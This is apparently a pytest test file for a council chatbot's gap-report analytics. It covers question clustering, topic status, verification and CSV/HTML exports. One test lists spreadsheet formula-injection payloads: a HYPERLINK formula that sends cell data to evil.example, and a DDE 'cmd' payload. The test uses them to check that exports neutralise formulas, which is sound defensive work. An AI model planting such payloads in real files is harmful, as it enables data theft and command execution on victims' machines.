"""Gap reports: grouping measured on a labelled synthetic log (tests/fixtures/gap_log.jsonl:
317 questions over 12 topics in varied phrasing, with typos, plus 25 off-topic ones), and the
report built from the analytics store with its exports."""

import csv
import io
import json
from collections import Counter
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from analytics.clustering import Topic, clean, group, measure
from analytics.gaps import gap_questions, gap_report, gaps_to_csv, gaps_to_html
from tests.conftest import TESTS

LOG = [json.loads(line) for line in
       (TESTS / "fixtures" / "gap_log.jsonl").read_text("utf-8").splitlines()]


@pytest.fixture(scope="module")
def grouped(embedder) -> tuple[list[str], tuple[list[Topic], list[int]]]:
    questions = [r["question"] for r in LOG]
    vectors = np.asarray(embedder.embed_documents([clean(q) for q in questions]))
    return questions, group(questions, vectors)


def test_grouping_meets_the_purity_and_coverage_targets(grouped) -> None:
    questions, (topics, other) = grouped
    scores = measure(topics, [r["topic"] for r in LOG])
    print("gap grouping:", scores)
    assert scores["purity"] >= 0.9, scores
    assert scores["coverage"] >= 0.9, scores  # topic questions in a topic of their own kind
    assert scores["strict_coverage"] >= 0.85, scores  # ...in their topic's largest group
    noise = {r["question"] for r in LOG if r["topic"] is None}
    assert sum(1 for i in other if questions[i] in noise) >= 0.8 * len(noise)  # left as other


def test_topics_have_readable_labels_and_representatives(grouped) -> None:
    _questions, (topics, _other) = grouped
    labels = " ".join(t.label for t in topics)
    for word in ("pothole", "graffiti", "councillor", "bin", "planning", "tree"):
        assert word in labels, labels
    biggest = topics[0]
    assert biggest.volume >= 20
    assert not biggest.representative.lower().startswith(("hello", "hi,", "please"))


class _Hit:
    def __init__(self, url: str, similarity: float) -> None:
        from askcouncil.chunks import Chunk

        self.chunk = Chunk(id="x", url=url, anchor="a", title="Bins", section="Collections",
                           text="t", page_hash="h")
        self.similarity = similarity


class _Index:
    def query(self, embedding: list[float], k: int) -> list[_Hit]:
        return [_Hit("http://x/bins.html", 0.61)]


def test_gap_report_from_the_store(tmp_path, embedder) -> None:
    from analytics.db import make_engine, migrate
    from analytics.store import AnalyticsStore, TurnRecord
    from askcouncil.council import load_council

    engine = make_engine(f"sqlite:///{tmp_path / 'a.sqlite3'}")
    migrate(engine)
    store = AnalyticsStore(engine)
    asked = ["what day is my bin collected", "bin day?", "when do the bin men come",
             "which day is rubbish collection on my road", "who is my local councillor",
             "my email is jo@example.com, when is my bin collected"]
    for i, q in enumerate(asked):
        store.record_turn(TurnRecord(f"m{i}", f"c{i}", "kestrelford", q, "x", "no_answer", [],
                                     None, [], 0.3, 5.0, {}))
    store.record_turn(TurnRecord("ok", "c9", "kestrelford", "garden waste cost", "x [1]",
                                 "answered", [], None, [], 0.8, 5.0, {}))
    since = datetime.now(UTC) - timedelta(days=1)
    until = datetime.now(UTC) + timedelta(minutes=1)
    assert len(gap_questions(store, "kestrelford", since, until)) == 6  # not the good answer
    r = gap_report(store, load_council("kestrelford"), embedder, _Index(), since, until)
    [bins] = [t for t in r["topics"] if "bin" in t["label"]]
    assert bins["volume"] >= 4 and bins["calls_at_stake"] == bins["volume"] * 0.5
    assert bins["why"] == {"declined": bins["volume"]}
    assert bins["nearest_page"]["url"] == "http://x/bins.html#a"
    assert bins["suggestion"] == "add to the existing page"
    assert all("jo@example.com" not in q for q in bins["questions"])  # masked when stored
    # the export lists every member question with its message id, not only five examples
    assert len(bins["members"]) == bins["volume"]
    assert {m["message_id"] for m in bins["members"]} <= {f"m{i}" for i in range(6)}
    assert all("jo@example.com" not in m["question"] for m in bins["members"])
    rows = list(csv.reader(io.StringIO(gaps_to_csv(r))))
    assert rows[0][:4] == ["owner", "topic_id", "status", "label"]
    assert any(row[0].startswith("# method") for row in rows)
    assert "<caption>" in gaps_to_html(r)
    engine.dispose()


def _meetings(tmp_path):  # noqa: ANN001, ANN202
    """A store with four declined questions about council meetings (a subject the site lacks)."""
    from analytics.db import make_engine, migrate
    from analytics.store import AnalyticsStore, TurnRecord

    engine = make_engine(f"sqlite:///{tmp_path / 'a.sqlite3'}")
    migrate(engine)
    store = AnalyticsStore(engine)
    for i, q in enumerate(["when is the next full council meeting", "council meeting dates",
                           "can I watch council meetings online", "agenda for council meetings"]):
        store.record_turn(TurnRecord(f"m{i}", f"c{i}", "kestrelford", q, "x", "no_answer", [],
                                     None, [], 0.0, 5.0, {}))
    return engine, store


def test_topics_keep_their_identity_status_and_verification(tmp_path, embedder) -> None:
    from analytics.gap_topics import set_status, verify_fixed
    from askcouncil.council import load_council
    from askcouncil.errors import BadInput, NotFound

    engine, store = _meetings(tmp_path)
    council = load_council("kestrelford")
    since = datetime.now(UTC) - timedelta(days=1)
    until = datetime.now(UTC) + timedelta(minutes=1)
    [first] = gap_report(store, council, embedder, _Index(), since, until)["topics"]
    assert first["status"] == "new"
    [again] = gap_report(store, council, embedder, _Index(), since, until)["topics"]
    assert again["topic_id"] == first["topic_id"]  # the same topic, not a new one
    set_status(store, first["topic_id"], "fixed")
    [marked] = gap_report(store, council, embedder, _Index(), since, until)["topics"]
    assert marked["status"] == "fixed"
    with pytest.raises(BadInput):
        set_status(store, first["topic_id"], "done")
    with pytest.raises(NotFound):
        set_status(store, 999, "fixed")
    # after the next crawl the questions are asked again
    [result] = verify_fixed(store, "kestrelford", lambda q: "no_answer")
    assert result["status"] == "not verified" and result["asked"] == 4
    assert result["was"] == "fixed"
    [waiting] = gap_report(store, council, embedder, _Index(), since, until)["topics"]
    assert waiting["suggestion"].startswith("check the page")  # the suggestion follows it
    [result] = verify_fixed(store, "kestrelford", lambda q: "answered")
    assert (result["was"], result["status"]) == ("not verified", "verified")
    shown_report = gap_report(store, council, embedder, _Index(), since, until)
    [shown] = shown_report["topics"]
    assert shown["status"] == "verified" and shown["verification"]["answered"] == 4
    assert "verified (4 of 4 answered after the last crawl)" in gaps_to_html(shown_report)
    assert shown["suggestion"].startswith("nothing")
    # a verified topic is re-asked after every crawl: its page went, so it is not verified
    [result] = verify_fixed(store, "kestrelford", lambda q: "no_answer")
    assert (result["was"], result["status"]) == ("verified", "not verified")
    engine.dispose()


@pytest.mark.parametrize("question", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1",
])
def test_exports_neutralise_spreadsheet_formulas(question) -> None:
    """Residents' questions go into the CSV exports raw: a cell a spreadsheet would run as a
    formula is written with a leading apostrophe (found by an outside test)."""
    import csv
    import io

    from analytics.gaps import gaps_to_csv

    report = {"topics": [{
        "topic_id": 1, "status": "new", "label": "x", "volume": 2, "calls_at_stake": 1,
        "previous_volume": 3, "trend": -1, "representative": question, "nearest_page": None,
        "nearest_similarity": None, "suggestion": "new page", "questions": [question, "ok"]}],
        "method": []}
    rows = list(csv.reader(io.StringIO(gaps_to_csv(report))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["representative"] == "'" + question
    assert row["examples"] == "'" + question + " | ok"
    assert row["trend"] == "-1"  # a number stays a number


def test_places_are_taken_out_before_grouping() -> None:
    """A street or estate many residents mention says where, not what: it must not make a topic
    (issue 18: "kestrelford, high, street" grouped allotments, taxis and toilets)."""
    from analytics.clustering import places, without_places

    questions = ["Is there graffiti removal on Kestrelford High Street?",
                 "Who empties the bins on the Millbrook estate?",
                 "Any allotments near Millbrook?", "the rent is too high",
                 "Is my Council Tax band right?", "bins on heron way", "Heron Way bins"]
    names = places(questions, "Kestrelford District Council")
    assert {"kestrelford", "millbrook", "heron"} <= names
    assert "high" not in names  # written alone in lower case: an ordinary word
    assert without_places(questions[0], names) == "Is there graffiti removal on ?"
    assert without_places(questions[1], names) == "Who empties the bins on the ?"
    assert without_places("millbrook estate bins", names) == " bins"
    assert without_places(questions[4], names) == questions[4]  # a service's name stays
    assert without_places(questions[3], names) == questions[3]


def test_clustering_is_bounded_and_fragments_merge() -> None:
    """At most ``limit`` questions are clustered; the rest join the nearest topic. Fragments
    whose centres are close become one topic; two subjects that share a word stay two."""
    from analytics.clustering import MERGE, cluster, merge

    rng = np.random.default_rng(1)
    a, b = rng.normal(size=8), rng.normal(size=8)
    questions = [f"allotment plot {i}" for i in range(40)] + [f"taxi licence {i}"
                                                              for i in range(40)]
    vectors = np.array([a + 0.05 * rng.normal(size=8) for _ in range(40)]
                       + [b + 0.05 * rng.normal(size=8) for _ in range(40)])
    groups, other = cluster(questions, vectors, limit=20)
    assert sorted(len(g) for g in groups) == [40, 40] and other == []
    assert all(len({q.split()[0] for q in (questions[i] for i in g)}) == 1 for g in groups)
    # two fragments about allotments, close in the embedding, become one topic; the taxi
    # licence fragment, far from both, stays apart
    frags = [[0, 1, 2], [3, 4, 5], [40, 41, 42]]
    joined = merge(vectors, frags)
    assert sorted(map(len, joined)) == [3, 6]
    # a fragment whose centre is less similar than MERGE (alcohol licences beside taxi
    # licences: a shared word, not a shared subject) stays apart
    c = rng.normal(size=8)
    c -= (c @ b) / (b @ b) * b  # orthogonal to the taxi questions
    alcohol = np.vstack([vectors, [c + 0.05 * rng.normal(size=8) for _ in range(3)]])
    assert float(_unit(alcohol[80:].mean(axis=0)) @ _unit(vectors[40:43].mean(axis=0))) < MERGE
    assert sorted(map(len, merge(alcohol, [[40, 41, 42], [80, 81, 82]]))) == [3, 3]
    assert merge(vectors, []) == []


def _unit(v: np.ndarray) -> np.ndarray:
    return v / np.linalg.norm(v)


class _Chunk:
    def __init__(self, url: str, title: str, text: str) -> None:
        self.url, self.title, self.section, self.text = url, title, title, text
        self.cite_url = url


class _SiteIndex(_Index):
    """Two pages; a search finds the bulky waste page for any question (as a poor match would
    for graffiti), at the similarity a real search gave these questions."""

    def iter_chunks(self) -> list[_Chunk]:
        return [_Chunk("http://x/bulky.html", "Bulky waste collection",
                       "We collect sofas, mattresses, fridges and other bulky items for a fee."),
                _Chunk("http://x/tax.html", "Council Tax", "Pay your Council Tax by direct debit.")]

    def query_many(self, embeddings: list[list[float]], k: int) -> list[list[_Hit]]:
        hit = _Hit("http://x/bulky.html", 0.45)
        hit.chunk = self.iter_chunks()[0]  # type: ignore[assignment]
        return [[hit] for _ in embeddings]


def test_the_report_splits_what_the_site_lacks_from_what_the_bot_missed(tmp_path,
                                                                         embedder) -> None:
    """Declined questions the site does answer (others asking the same were answered from a
    page that holds their words) go to the answer-quality owner by page, not to the editors as
    a gap; a subject no page mentions is a gap topic."""
    from analytics.db import make_engine, migrate
    from analytics.store import AnalyticsStore, TurnRecord
    from askcouncil.council import load_council

    engine = make_engine(f"sqlite:///{tmp_path / 'a.sqlite3'}")
    migrate(engine)
    store = AnalyticsStore(engine)

    def rec(mid: str, q: str, status: str, confidence: float, url: str | None = None
            ) -> TurnRecord:
        cited = [{"n": 1, "url": url, "title": "Bulky waste collection", "section": "Fees",
                  "snippet": "x"}] if url else []
        return TurnRecord(mid, f"c-{mid}", "kestrelford", q, "x", status, cited, None, [],
                          confidence, 5.0, {})

    answered = ["can you collect my old sofa", "collect a mattress please",
                "how much to collect a fridge", "bulky item collection cost",
                "collection of a sofa and a mattress", "collect an old fridge freezer"]
    for i, q in enumerate(answered):
        store.record_turn(rec(f"a{i}", q, "answered", 0.9, "http://x/bulky.html#fees"))
    missed = ["will you collect my sofa", "can the council collect a mattress",
              "collecting an old fridge", "sofa collection how much"]
    for i, q in enumerate(missed):
        store.record_turn(rec(f"m{i}", q, "no_answer", 0.0))
    lacks = ["who removes graffiti from walls", "graffiti on my garden wall",
             "report graffiti on a bus shelter", "graffiti removal service",
             "someone sprayed graffiti on the shop"]
    for i, q in enumerate(lacks):
        store.record_turn(rec(f"g{i}", q, "no_answer", 0.0))
    since = datetime.now(UTC) - timedelta(days=1)
    until = datetime.now(UTC) + timedelta(minutes=1)
    r = gap_report(store, load_council("kestrelford"), embedder, _SiteIndex(), since, until)
    [graffiti] = r["topics"]
    assert "graffiti" in graffiti["label"] and graffiti["owner"] == "site lacks"
    assert {m["message_id"] for m in graffiti["members"]} == {f"g{i}" for i in range(5)}
    [bulky] = r["bot_missed"]
    assert bulky["page"]["url"] == "http://x/bulky.html#fees"
    assert {m["message_id"] for m in bulky["members"]} == {f"m{i}" for i in range(4)}
    assert r["bot_missed_questions"] == 4
    rows = list(csv.reader(io.StringIO(gaps_to_csv(r))))
    assert [row[0] for row in rows[1:3]] == ["site lacks", "bot missed"]
    assert "What the bot missed" in gaps_to_html(r)
    engine.dispose()


def gaps_to_html_admin(r: dict) -> str:
    """The dashboard's gap page drawn from a report (no app needed)."""
    from bot.admin.routes import templates

    return templates.env.get_template("admin/gaps.html").render(
        r=r, days=30, periods=[7, 30, 90], csrf="x", council=None)


def test_the_dashboard_reads_the_jobs_report_with_todays_statuses(tmp_path, embedder) -> None:
    """The job keeps the report; reading it shows each topic's status as it is now (marked
    fixed, then verified by the crawl's check) without making the report again. Erasing a
    conversation takes its question out of the kept report too."""
    from analytics.gap_topics import set_status, verify_fixed
    from analytics.gaps import stored_gap_report
    from askcouncil.council import load_council

    engine, store = _meetings(tmp_path)
    assert stored_gap_report(store, "kestrelford", 30) is None  # not made yet
    since = datetime.now(UTC) - timedelta(days=30)
    r = gap_report(store, load_council("kestrelford"), embedder, _Index(), since,
                   datetime.now(UTC) + timedelta(minutes=1))
    store.save_gap_report("kestrelford", 30, r, 1.5)
    shown = stored_gap_report(store, "kestrelford", 30)
    assert shown is not None and shown["seconds"] == 1.5 and shown["made_at"]
    [topic] = shown["topics"]
    set_status(store, topic["topic_id"], "fixed")
    [topic] = stored_gap_report(store, "kestrelford", 30)["topics"]
    assert topic["status"] == "fixed" and topic["suggestion"].startswith("wait")
    verify_fixed(store, "kestrelford", lambda q: "answered")
    [topic] = stored_gap_report(store, "kestrelford", 30)["topics"]
    assert topic["status"] == "verified" and topic["suggestion"].startswith("nothing")
    assert stored_gap_report(store, "kestrelford", 30)["followed"] == []
    # the next report no longer lists it as lacking (its page now holds its words): it is
    # still followed, where the editor looks for "verified"
    store.save_gap_report("kestrelford", 30, {**r, "topics": []}, 1.0)
    [followed] = stored_gap_report(store, "kestrelford", 30)["followed"]
    assert followed["topic_id"] == topic["topic_id"] and followed["status"] == "verified"
    assert "Topics marked fixed" in gaps_to_html_admin(stored_gap_report(store, "kestrelford",
                                                                         30))
    store.save_gap_report("kestrelford", 30, r, 1.5)
    assert stored_gap_report(store, "kestrelford", 7) is None  # another period
    store.erase("c0")
    kept = store.latest_gap_report("kestrelford", 30).report
    assert "m0" not in json.dumps(kept)
    assert "when is the next full council meeting" not in json.dumps(kept)
    assert len(kept["topics"][0]["members"]) == 3
    engine.dispose()


def test_the_site_is_read_a_batch_at_a_time_once_and_only_when_there_are_questions(
        crawled, tmp_path, embedder, monkeypatch) -> None:
    """The gap job reads the site's words from the index once for all its periods, a batch of
    chunks at a time, and not at all when no question went unanswered (a county's index is
    over 100,000 chunks)."""
    from collections.abc import Iterator

    from analytics.db import make_engine, migrate
    from analytics.gaps import site_pages
    from analytics.store import AnalyticsStore
    from askcouncil.chroma import open_chroma
    from askcouncil.chunks import Chunk
    from askcouncil.council import load_council
    from askcouncil.index import CouncilIndex

    settings, _ = crawled
    index = CouncilIndex(open_chroma(settings), settings.council)
    every = index.all_chunks()
    assert [c.id for c in index.iter_chunks(batch=7)] == [c.id for c in every]
    pages = Counter(c.url for c in every)
    monkeypatch.setattr("askcouncil.index.READ_BATCH", 5)  # pages split across reads
    assert index.page_versions() == {c.url: (c.page_hash, pages[c.url]) for c in every}
    reads: list[int] = []

    class Counted(CouncilIndex):
        def iter_chunks(self, batch: int | None = None) -> Iterator[Chunk]:
            reads.append(batch)
            return super().iter_chunks(batch)

    counted = Counted(open_chroma(settings), settings.council)
    site = site_pages(counted)
    assert site() is site() and reads == [None]
    assert site().sections == len(every)
    engine = make_engine(f"sqlite:///{tmp_path / 'a.sqlite3'}")
    migrate(engine)
    since = datetime.now(UTC) - timedelta(days=1)
    until = datetime.now(UTC) + timedelta(minutes=1)
    reads.clear()
    r = gap_report(AnalyticsStore(engine), load_council("kestrelford"), embedder, counted,
                   since, until)
    assert r["gap_questions"] == 0 and reads == []
    engine.dispose()
